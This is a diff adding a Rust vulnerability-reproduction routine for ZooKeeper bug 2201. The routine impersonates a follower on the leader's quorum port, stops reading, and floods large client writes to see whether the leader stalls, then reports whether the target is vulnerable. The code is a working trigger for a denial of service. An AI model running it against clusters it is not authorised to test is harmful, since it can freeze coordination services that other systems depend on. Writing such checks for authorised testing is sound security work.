@@ -655,3 +655,247 @@ fn follow_badly(
         }
     }
 }
+
+/// The values ZOOKEEPER-2201's load writes: half of Java's default jute.maxbuffer (0xfffff).
+const LOAD_VALUE_BYTES: usize = 512 * 1024;
+/// How many: 16 MiB, more than a loopback connection's socket buffers on both ends hold.
+const LOAD_WRITES: u64 = 32;
+/// A write whose reply takes longer has stalled (the leader commits in milliseconds here).
+const WRITE_STALL: Duration = Duration::from_secs(10);
+/// How long zkfle keeps not reading after the load, writing a small value every 500 ms.
+const AFTER_LOAD: Duration = Duration::from_secs(6);
+
+/// Bytes waiting unread in `s`'s receive buffer (FIONREAD).
+fn unread_bytes(s: &std::net::TcpStream) -> Option<usize> {
+    use std::os::fd::AsRawFd;
+    let mut n: libc::c_int = 0;
+    // SAFETY: FIONREAD writes one c_int through the pointer, which lives for the call.
+    let rc = unsafe { libc::ioctl(s.as_raw_fd(), libc::FIONREAD, &mut n) };
+    (rc == 0).then_some(n.max(0) as usize)
+}
+
+/// ZOOKEEPER-2201: zkfle follows the leader as member --peer-sid, then stops reading its
+/// quorum socket while client writes fill it.
+pub(super) fn zookeeper_2201(
+    target: &Target,
+    opts: &super::ReproOptions,
+    before: &Answer,
+    ev: &mut Vec<String>,
+) -> Verdict {
+    let Some(config) = before.config.clone().or_else(|| opts.config.clone()) else {
+        ev.push("the target's answer carries no config (3.4): give the ensemble's members with --config zoo.cfg".into());
+        return Verdict::Inconclusive;
+    };
+    let Some(me) = opts.peer_sid else {
+        ev.push(
+            "needs --peer-sid SID: the member whose server is down, as which zkfle follows".into(),
+        );
+        return Verdict::Inconclusive;
+    };
+    let target_sid = config
+        .servers()
+        .find(|s| {
+            s.addresses
+                .iter()
+                .any(|a| a.election().socket_addr() == Some(target.addr))
+        })
+        .map(|s| s.id);
+    let leader = match before.state {
+        ServerState::Leading => target_sid,
+        ServerState::Following => Some(before.leader),
+        _ => None,
+    };
+    let Some(leader) = leader else {
+        ev.push(format!(
+            "the target is {} (or not in the config): this repro needs an ensemble with a leader",
+            before.state.name()
+        ));
+        return Verdict::Inconclusive;
+    };
+    if leader == me {
+        ev.push(format!("--peer-sid {me} is the leader"));
+        return Verdict::Inconclusive;
+    }
+    let line = config.server(leader);
+    let Some(quorum) = line
+        .and_then(|s| s.addresses.first())
+        .and_then(|a| a.quorum_socket_addr())
+    else {
+        ev.push(format!(
+            "the leader ({leader})'s quorum address is not an IP address in the config"
+        ));
+        return Verdict::Inconclusive;
+    };
+    let client = opts.client.or_else(|| {
+        let (host, port) = line?.client.clone()?;
+        let ip = match host {
+            Some(h) => h.parse().ok()?,
+            None => quorum.ip(),
+        };
+        Some(SocketAddr::new(ip, port))
+    });
+    let Some(client) = client else {
+        ev.push(format!(
+            "no client address for the leader ({leader}): its config line has no `;clientPort` (3.4, or a static config); give --client HOST:PORT"
+        ));
+        return Verdict::Inconclusive;
+    };
+    // 1. Follow: handshake and sync, as a Java follower with an empty log.
+    let s = match std::net::TcpStream::connect_timeout(&quorum, opts.timeout) {
+        Ok(s) => s,
+        Err(e) => {
+            ev.push(format!(
+                "cannot connect to the leader's quorum port {quorum}: {e}"
+            ));
+            return Verdict::Inconclusive;
+        }
+    };
+    let _ = s.set_write_timeout(Some(opts.timeout));
+    let mut l = Learner {
+        s,
+        decoder: QuorumStreamDecoder::new(),
+        pending: Vec::new(),
+    };
+    let info = LearnerInfo {
+        sid: me,
+        protocol_version: PROTOCOL_VERSION,
+        config_version: config.version() as i64,
+    };
+    let limit = Duration::from_secs(10);
+    let synced = (|| -> Result<(i64, &'static str), String> {
+        l.send(&QuorumPacket::follower_info(0, &info))?;
+        let leader_info = l.until(ptype::LEADERINFO, limit)?;
+        let new_epoch = leader_info.last().map_or(0, |p| p.zxid >> 32);
+        l.send(&QuorumPacket::ack_epoch(0, 0))?;
+        let sync = l.until(ptype::NEWLEADER, limit)?;
+        let kind = sync
+            .iter()
+            .find(|p| matches!(p.ptype, ptype::DIFF | ptype::SNAP | ptype::TRUNC))
+            .map_or("no sync packet", |p| p.type_name());
+        let newleader = sync.last().map_or(0, |p| p.zxid);
+        l.send(&QuorumPacket::ack(newleader))?;
+        l.until(ptype::UPTODATE, limit)?;
+        l.send(&QuorumPacket::ack(new_epoch << 32))?;
+        Ok((new_epoch, kind))
+    })();
+    let (new_epoch, kind) = match synced {
+        Ok(x) => x,
+        Err(e) => {
+            ev.push(format!(
+                "quorum port {quorum}: following as member {me}: {e}"
+            ));
+            return Verdict::Inconclusive;
+        }
+    };
+    let stopped_at = Instant::now();
+    ev.push(format!(
+        "trigger: followed leader {leader} on its quorum port {quorum} as member {me} (epoch {new_epoch}, synced by {kind}, UPTODATE); then stopped reading, keeping the connection open"
+    ));
+    // 2. The load, through the leader's client port.
+    let mut zk = match crate::net::client::Client::connect(client, 30_000, WRITE_STALL) {
+        Ok(c) => c,
+        Err(e) => {
+            ev.push(format!("load: {e}"));
+            let _ = l.s.shutdown(std::net::Shutdown::Both);
+            return Verdict::Inconclusive;
+        }
+    };
+    let path = "/zkfle-2201";
+    if let Err(e) = zk.create(path, b"") {
+        ev.push(format!("load: creating {path} through {client}: {e}"));
+        let _ = l.s.shutdown(std::net::Shutdown::Both);
+        return Verdict::Inconclusive;
+    }
+    let value = vec![b'x'; LOAD_VALUE_BYTES];
+    let mut replies = Vec::new();
+    let load_at = Instant::now();
+    let loaded = zk.pipeline(
+        4,
+        |c, _| c.set_data_frame(path, &value),
+        |i| i < LOAD_WRITES,
+        |r| replies.push(r),
+    );
+    let load_secs = load_at.elapsed().as_secs_f64();
+    let unread = unread_bytes(&l.s).unwrap_or(0);
+    let ok = replies.iter().filter(|r| r.err == 0).count();
+    let slowest = replies.iter().map(|r| r.latency).max().unwrap_or_default();
+    let mb = |n: f64| n / (1024.0 * 1024.0);
+    if let Err(e) = loaded {
+        ev.push(format!(
+            "after: {ok} of {LOAD_WRITES} setData of {} KiB through {client} committed, then the next reply did not come ({e}) {:.1} s after the load began, while zkfle's quorum socket held {:.1} MiB unread: the leader stalled",
+            LOAD_VALUE_BYTES / 1024,
+            load_secs,
+            mb(unread as f64)
+        ));
+        let _ = l.s.shutdown(std::net::Shutdown::Both);
+        return Verdict::Vulnerable;
+    }
+    ev.push(format!(
+        "load: {ok} of {LOAD_WRITES} setData of {} KiB ({:.0} MiB) through {client} committed in {load_secs:.1} s (slowest reply {} ms) while zkfle read nothing; zkfle's quorum socket then held {:.1} MiB unread",
+        LOAD_VALUE_BYTES / 1024,
+        mb((LOAD_WRITES as usize * LOAD_VALUE_BYTES) as f64),
+        slowest.as_millis(),
+        mb(unread as f64)
+    ));
+    // 3. Keep not reading; the leader must go on committing (and drop zkfle).
+    let mut small = Vec::new();
+    let after = zk.pipeline(
+        1,
+        |c, _| {
+            std::thread::sleep(Duration::from_millis(500));
+            c.set_data_frame(path, b"y")
+        },
+        |i| i < (AFTER_LOAD.as_millis() / 500) as u64,
+        |r| small.push(r),
+    );
+    zk.close();
+    let small_slowest = small.iter().map(|r| r.latency).max().unwrap_or_default();
+    if let Err(e) = after {
+        ev.push(format!(
+            "after: {} small writes committed, then a reply did not come ({e}), {:.1} s after zkfle stopped reading: the leader stalled",
+            small.len(),
+            stopped_at.elapsed().as_secs_f64()
+        ));
+        let _ = l.s.shutdown(std::net::Shutdown::Both);
+        return Verdict::Vulnerable;
+    }
+    // 4. Now read: does the stream end (the leader dropped zkfle) after what was queued?
+    let mut drained = 0usize;
+    let mut buf = vec![0u8; 256 * 1024];
+    let _ = l.s.set_read_timeout(Some(Duration::from_secs(2)));
+    let end = loop {
+        use std::io::Read;
+        match l.s.read(&mut buf) {
+            Ok(0) => break "the leader had closed the connection",
+            Ok(n) => drained += n,
+            Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset => {
+                break "the leader had reset the connection";
+            }
+            Err(_) => break "",
+        }
+        if drained > 64 * 1024 * 1024 {
+            break "";
+        }
+    };
+    let _ = l.s.shutdown(std::net::Shutdown::Both);
+    let watched = stopped_at.elapsed().as_secs_f64();
+    if end.is_empty() {
+        ev.push(format!(
+            "after: {} small writes committed over {:.0} s (slowest {} ms), but {watched:.1} s after zkfle stopped reading the leader still kept its connection ({:.1} MiB read back when zkfle read again)",
+            small.len(),
+            AFTER_LOAD.as_secs_f64(),
+            small_slowest.as_millis(),
+            mb(drained as f64)
+        ));
+        // Writes went on committing: the leader did not block; it is only slow to drop us.
+        return Verdict::NotVulnerable;
+    }
+    ev.push(format!(
+        "after: {} small writes committed over {:.0} s (slowest {} ms); when zkfle read again, {:.1} MiB came and then {end}, i.e. it dropped zkfle within {watched:.1} s of zkfle's last read",
+        small.len(),
+        AFTER_LOAD.as_secs_f64(),
+        small_slowest.as_millis(),
+        mb(drained as f64)
+    ));
+    Verdict::NotVulnerable
+}
